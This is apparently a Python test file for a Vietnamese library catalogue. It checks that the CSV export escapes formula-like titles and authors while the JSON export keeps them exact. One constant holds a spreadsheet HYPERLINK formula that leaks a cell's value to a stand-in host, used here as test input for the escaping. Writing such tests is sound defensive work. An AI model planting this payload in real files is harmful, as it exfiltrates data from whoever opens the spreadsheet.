"""The open-data CSV opens in a spreadsheet as text; the JSON keeps every title exactly."""

from __future__ import annotations

import csv
import io
import json

from district import catalogue_data
from kiosk.app import open_library
from kiosk.core.clock import FixedClock
from kiosk.core.node import init_library

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'


def test_a_title_that_looks_like_a_formula_should_stay_text_in_the_csv_only(tmp_path):
    # A device's librarian (or a hostile device) can type any title; the public opens the
    # province's thu-muc.csv in Excel, where this cell would run.
    lib = open_library(tmp_path / "hub.db", FixedClock("2026-06-01T08:00:00"))
    init_library(lib, "TAMNONG", "Thư viện tỉnh Đồng Tháp", kind="district")
    lib.catalogue.add_record({"title": HOSTILE, "authors": ["@Nguyễn Văn A"], "year": 2020})
    lib.catalogue.add_record({"title": "Truyện Kiều", "authors": ["Nguyễn Du"], "year": 2015})
    store = lib.store

    rows = list(csv.DictReader(io.StringIO(
        catalogue_data.catalogue_csv(store).decode("utf-8").lstrip("\ufeff"))))
    by_year = {r["Năm xuất bản"]: r for r in rows}
    assert by_year["2020"]["Nhan đề"] == "'" + HOSTILE
    assert by_year["2020"]["Tác giả"] == "'@Nguyễn Văn A"
    assert by_year["2015"]["Nhan đề"] == "Truyện Kiều"      # ordinary text untouched

    titles = {r["title"] for r in json.loads(catalogue_data.catalogue_json(store))}
    assert HOSTILE in titles                                  # machines get the exact text
    lib.store.close()
